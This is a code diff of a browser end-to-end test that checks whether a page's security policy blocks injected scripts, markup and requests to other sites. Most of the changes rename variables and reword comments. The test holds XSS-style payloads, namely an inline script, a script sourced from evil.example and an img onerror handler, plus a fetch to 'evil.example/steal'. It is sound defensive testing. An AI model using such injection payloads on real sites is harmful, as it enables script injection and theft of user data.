@@ -1,50 +1,50 @@
-import { expect, test, untilAlive } from '../journey.ts';
+import { expect, test, untilInteractive } from '../journey.ts';
 
 test.describe('the policy of a page', () => {
-  test('[SEC-03] blocks injected content: scripts, markup and calls elsewhere', async ({
+  test('[SEC-03] blocks injected scripts and markup, and requests to other sites', async ({
     page,
     consoleErrors,
   }) => {
-    // As if a title had been rendered unescaped.
+    // Simulates a title that was rendered unescaped.
     await page.route('**/live/', async (route) => {
       const response = await route.fetch();
       const html = await response.text();
       const injected =
-        '<script>window.brought = 1</script><script src="https://evil.example/x.js"></script><img src="/none.png" onerror="window.brought = 2">';
+        '<script>window.injected = 1</script><script src="https://evil.example/x.js"></script><img src="/none.png" onerror="window.injected = 2">';
       await route.fulfill({
         response,
         body: html.replace('</body>', `${injected}</body>`),
       });
     });
     await page.goto('/live/');
-    await untilAlive(page);
-    const tried = await page.evaluate(async () => {
-      const outcome = async (act: () => unknown) => {
+    await untilInteractive(page);
+    const outcomes = await page.evaluate(async () => {
+      const outcomeOf = async (attempt: () => unknown) => {
         try {
-          await act();
+          await attempt();
           return 'done';
         } catch (error) {
           return (error as Error).name;
         }
       };
-      const made = () => document.createElement('script');
+      const newScript = () => document.createElement('script');
       return {
-        injected: (window as { brought?: number }).brought ?? null,
-        markup: await outcome(() => (document.createElement('div').innerHTML = '<b>x</b>')),
-        scriptText: await outcome(() => (made().text = 'window.brought = 3')),
-        scriptAddress: await outcome(() => (made().src = '/assets/x.js')),
-        call: await outcome(() => fetch('https://evil.example/steal')),
-        policy: await outcome(() =>
+        injected: (window as { injected?: number }).injected ?? null,
+        markup: await outcomeOf(() => (document.createElement('div').innerHTML = '<b>x</b>')),
+        scriptText: await outcomeOf(() => (newScript().text = 'window.injected = 3')),
+        scriptAddress: await outcomeOf(() => (newScript().src = '/assets/x.js')),
+        call: await outcomeOf(() => fetch('https://evil.example/steal')),
+        policy: await outcomeOf(() =>
           (
             window as unknown as {
               trustedTypes: { createPolicy: (name: string, rules: object) => object };
             }
-          ).trustedTypes.createPolicy('mine', {}),
+          ).trustedTypes.createPolicy('injected', {}),
         ),
-        parsing: await outcome(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
+        parsing: await outcomeOf(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
       };
     });
-    expect(tried).toEqual({
+    expect(outcomes).toEqual({
       injected: null,
       markup: 'TypeError',
       scriptText: 'TypeError',
@@ -53,7 +53,7 @@ test.describe('the policy of a page', () => {
       policy: 'TypeError',
       parsing: 'TypeError',
     });
-    // The browser reported each of them.
+    // The browser reported each blocked attempt.
     expect(consoleErrors.length).toBeGreaterThan(5);
     consoleErrors.length = 0;
   });
